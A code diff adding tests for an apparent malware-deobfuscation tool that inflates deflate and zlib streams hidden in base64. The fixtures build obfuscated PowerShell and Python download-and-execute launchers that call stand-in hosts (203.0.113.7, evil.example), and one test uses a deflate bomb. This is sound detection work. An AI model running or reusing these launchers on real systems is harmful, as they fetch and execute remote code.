@@ -684,3 +684,61 @@ test("PowerShell -enc whose text is mostly Chinese or emoji is UTF-16 (it was bi
   }
   assert.equal(utf16, 0);
 });
+
+test("bare deflate and zlib streams (PowerShell's DeflateStream, Python's zlib.compress) are inflated: their text is decoded, its URLs found", () => {
+  const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7:8080/a.ps1'); Start-Sleep 5";
+  // Invoke-Obfuscation's and Empire's launcher shape: base64 of raw deflate, read back by IO.Compression.DeflateStream.
+  const raw = zlib.deflateRawSync(Buffer.from(script)).toString("base64");
+  const ps = `powershell -nop -w hidden -c "IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${raw}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"`;
+  const r = base64.unpack(ps);
+  assert.equal(r.items.length, 1);
+  assert.equal(r.items[0].fileType, "deflate");
+  assert.equal(r.items[0].encodingType, "utf-8");
+  assert.equal(r.items[0].decodedString, script);
+  assert.equal(r.items[0].sha256, crypto.createHash("sha256").update(script).digest("hex"), "hashes are of what was inflated, as for a gzip member");
+  assert.ok(r.fullDecodedString.includes(`FromBase64String('<decoded type='string' name='[deflate]' index='1' depth='1'>${script}</decoded>')`));
+  // A Python dropper's shape: zlib (header, Adler-32) in base64, here holding PowerShell -enc base64 decoded one level down.
+  const inner = `powershell -enc ${Buffer.from("whoami /all; iwr http://evil.example/x", "utf16le").toString("base64")}`;
+  const py = `python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode('${zlib.deflateSync(Buffer.from(inner)).toString("base64")}')))"`;
+  const p = base64.unpack(py);
+  assert.deepEqual(p.items.map((i) => [i.reference, i.fileType, i.encodingType, i.decodedString]), [
+    ["1.1", "zlib", "utf-8", inner],
+    ["2.1", null, "utf-16", "whoami /all; iwr http://evil.example/x"],
+  ]);
+  // Truncated (a log field cut short) or damaged streams stay the bytes they are.
+  const cut = zlib.deflateRawSync(Buffer.from(script.repeat(4))).subarray(0, 40);
+  assert.equal(base64.unpack(`x ${b64(cut.subarray(0, 39))}`).items[0].fileType, null);
+  const zl = zlib.deflateSync(Buffer.from(script));
+  zl[zl.length - 1] ^= 1; // Adler-32 wrong
+  const bad = base64.unpack(`x ${b64(zl)}`).items[0];
+  assert.notEqual(bad.fileType, "zlib");
+  assert.equal(bad.encodingType, "binary");
+});
+
+test("random binary is not taken for a deflate stream (it has no header: the stream must end at the last byte)", () => {
+  let seed = 4242;
+  const rand = (): number => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
+  let inflated = 0;
+  for (let k = 0; k < 3000; k++) {
+    const n = 24 + Math.floor(rand() * 200);
+    const bytes = Uint8Array.from({ length: n }, () => Math.floor(rand() * 256));
+    const t = base64.unpack(b64(bytes)).items[0]?.fileType;
+    if (t === "deflate" || t === "zlib") inflated++;
+  }
+  assert.equal(inflated, 0);
+});
+
+test("a deflate bomb (64 MiB of zeros in 64 KB) stops at maxExpandedBytes, marked; the budget is charged", () => {
+  const bomb = zlib.deflateRawSync(Buffer.alloc(64 * MiB));
+  assert.ok(bomb.length < 100_000);
+  const r = base64.unpack(`$d='${b64(bomb)}'`);
+  assert.equal(r.items.length, 1);
+  assert.equal(r.items[0].fileType, "deflate");
+  assert.equal(r.items[0].inputBytes.length, 8 * MiB);
+  assert.match(String(r.items[0].limit), /^maxExpandedBytes: output stopped at 8388608 bytes/);
+  assert.ok(r.limits.some((l) => /^1\.1: maxExpandedBytes/.test(l)), r.limits.join("; "));
+  // With a smaller per-input budget, that is the cap.
+  const small = base64.unpack(`$d='${b64(bomb)}'`, { maxDecodedBytes: 1 * MiB });
+  assert.equal(small.items[0].inputBytes.length, 1 * MiB - bomb.length);
+  assert.match(String(small.items[0].limit), /^maxDecodedBytes/);
+});
